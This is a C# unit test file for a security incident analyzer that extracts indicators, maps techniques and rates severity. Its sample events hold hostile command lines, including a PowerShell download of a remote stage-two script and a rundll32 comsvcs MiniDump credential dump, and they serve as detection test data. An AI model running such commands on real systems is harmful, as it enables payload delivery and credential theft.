using Llama3Siem.Prompts.Detection;
using Llama3Siem.Prompts.Detection.Sigma;
using Llama3Siem.Prompts.Enrichment;
using Llama3Siem.Prompts.Events;
using Llama3Siem.Prompts.Iocs;
using Llama3Siem.Prompts.Knowledge;

namespace Llama3Siem.Prompts.Tests.Enrichment;

public sealed class IncidentAnalyzerTests
{
    [Fact]
    public void Iocs_carry_every_event_they_occur_in_as_evidence()
    {
        var incident = Incident.FromEvents([
            TestEvents.Windows("a", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                "powershell -c iwr http://update-cdn-check.xyz/stage2.ps1 -OutFile C:\\Users\\Public\\s.ps1", minute: 1),
            TestEvents.Windows("b", "22", minute: 2, fields: ("QueryName", "update-cdn-check.xyz")),
            TestEvents.Windows("c", "3", minute: 3, fields: ("DestinationIp", "10.20.1.7")),
        ]);

        var findings = IncidentAnalyzer.Default.Analyze(incident);

        var domain = Assert.Single(findings.Iocs, i => i.Type == "domain" && i.Value == "update-cdn-check.xyz");
        Assert.Equal(["a", "b"], domain.Evidence);
        Assert.False(domain.Internal);
        Assert.Single(findings.Iocs, i => i.Type == "url" && i.Value == "http://update-cdn-check.xyz/stage2.ps1");
        Assert.True(Assert.Single(findings.Iocs, i => i.Value == "10.20.1.7").Internal);
        Assert.DoesNotContain(findings.Iocs, i => i.Value.EndsWith("s.ps1", StringComparison.Ordinal) && i.Type == "domain");
    }

    [Fact]
    public void An_incident_without_any_technique_is_low_severity_and_says_so()
    {
        var findings = IncidentAnalyzer.Default.Analyze(Incident.FromEvents([TestEvents.Windows("a", "4624", fields: ("LogonType", "2"))]));

        Assert.Equal(Severity.Low, findings.Severity);
        Assert.Empty(findings.Techniques);
        Assert.Empty(findings.Mitigations);
        Assert.Contains("No known attack technique matched.", findings.Summary, StringComparison.Ordinal);
    }

    [Fact]
    public void Credential_access_is_high_and_credential_access_with_lateral_movement_is_critical()
    {
        var dump = TestEvents.Windows("a", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32 comsvcs.dll MiniDump 624 C:\t\l.dmp full");
        var share = TestEvents.Windows("b", "5140", minute: 2, fields: ("ShareName", @"\\*\ADMIN$"));

        Assert.Equal(Severity.High, IncidentAnalyzer.Default.Analyze(Incident.FromEvents([dump])).Severity);
        Assert.Equal(Severity.Critical, IncidentAnalyzer.Default.Analyze(Incident.FromEvents([dump, share])).Severity);
    }

    [Fact]
    public void An_ids_alert_of_top_severity_makes_the_incident_at_least_high()
    {
        var alert = TestEvents.Of(EventFormats.SuricataEve, "s", "alert", "ET POLICY Suspicious User-Agent", ("alert.severity", "1"));

        Assert.Equal(Severity.High, IncidentAnalyzer.Default.Analyze(Incident.FromEvents([alert])).Severity);
    }

    [Fact]
    public void The_summary_states_counts_hosts_users_time_span_techniques_and_rules_most_serious_first()
    {
        var findings = IncidentAnalyzer.Default.Analyze(Incident.FromEvents([
            TestEvents.Windows("a", "1", @"C:\Windows\System32\whoami.exe", "whoami /all", minute: 0),
            TestEvents.Windows("b", "1", @"C:\Windows\System32\nltest.exe", "nltest /domain_trusts", minute: 4),
        ]));

        Assert.Equal(
            "2 events on WS-FIN-07 involving alice from 2026-03-01 09:00:00Z to 2026-03-01 09:04:00Z. "
            + "Techniques: T1033 System Owner/User Discovery; T1482 Domain Trust Discovery. "
            + "Rules: Domain trusts or controllers listed with nltest (medium), whoami run (low).",
            findings.Summary);
        Assert.Equal(["WS-FIN-07"], findings.Hosts);
        Assert.Equal(["alice"], findings.Users);
    }

    [Fact]
    public void Mitigations_are_the_mapped_controls_of_the_detected_techniques()
    {
        var findings = IncidentAnalyzer.Default.Analyze(Incident.FromEvents([
            TestEvents.Windows("a", "1", @"C:\Windows\System32\schtasks.exe", @"schtasks /create /tn x /tr C:\x.exe /sc daily"),
        ]));

        Assert.Equal("T1053.005", Assert.Single(findings.Techniques).TechniqueId);
        Assert.Equal(
            Llama3Siem.Prompts.Knowledge.ThreatKnowledge.BuiltIn.ControlsFor("T1053.005").Order(),
            findings.Mitigations.Select(m => m.Id).Order());
    }

    [Theory]
    [InlineData("critical", "attack.t1033", "critical")] // a discovery technique alone is medium: the level lifts it
    [InlineData("high", "attack.execution", "high")] // no technique at all: the level still counts
    [InlineData("informational", "attack.t1033", "medium")] // informational sets no floor
    public void A_fired_rule_level_is_a_severity_floor(string level, string tag, string expected)
    {
        var rule = SigmaRule.Parse($$"""
            title: Operator rule
            id: 0f9e8d7c-6b5a-4c3d-8e2f-1a0b9c8d7e6f
            level: {{level}}
            tags: [{{tag}}]
            logsource: { product: windows, category: process_creation }
            detection:
                selection: { Image|endswith: '\tool.exe' }
                condition: selection
            """);
        var analyzer = new IncidentAnalyzer(IocExtractor.Default, ThreatKnowledge.BuiltIn,
            detection: new DetectionEngine(new SigmaLoadResult([rule], []), ThreatKnowledge.BuiltIn));

        var findings = analyzer.Analyze(Incident.FromEvents([TestEvents.Windows("a", "1", @"C:\Temp\tool.exe")]));

        Assert.Equal(expected, findings.Severity.ToName());
        Assert.Equal("0f9e8d7c-6b5a-4c3d-8e2f-1a0b9c8d7e6f", Assert.Single(findings.RuleHits).Rule.Id);
    }

    [Fact]
    public void The_document_names_every_fired_rule_with_its_events_and_each_technique_with_its_rules()
    {
        var findings = IncidentAnalyzer.Default.Analyze(Incident.FromEvents([
            TestEvents.Windows("a", "1", @"C:\Windows\System32\whoami.exe", "whoami /all"),
        ]));

        var document = IncidentDocuments.Deterministic(findings, NarrativeStatus.NotGenerated, new EnrichmentProvenance { PromptVersion = "test" });

        var rule = Assert.Single(document.Rules);
        Assert.Equal("whoami run", rule.Title);
        Assert.Equal(["a"], rule.Evidence);
        var technique = Assert.Single(document.Techniques);
        Assert.Equal(("T1033", TechniqueSources.Sigma), (technique.Id, technique.Source));
        Assert.Equal(rule.Id, Assert.Single(technique.Rules!).Id);
        Assert.Null(technique.Rules![0].Evidence);
    }
}
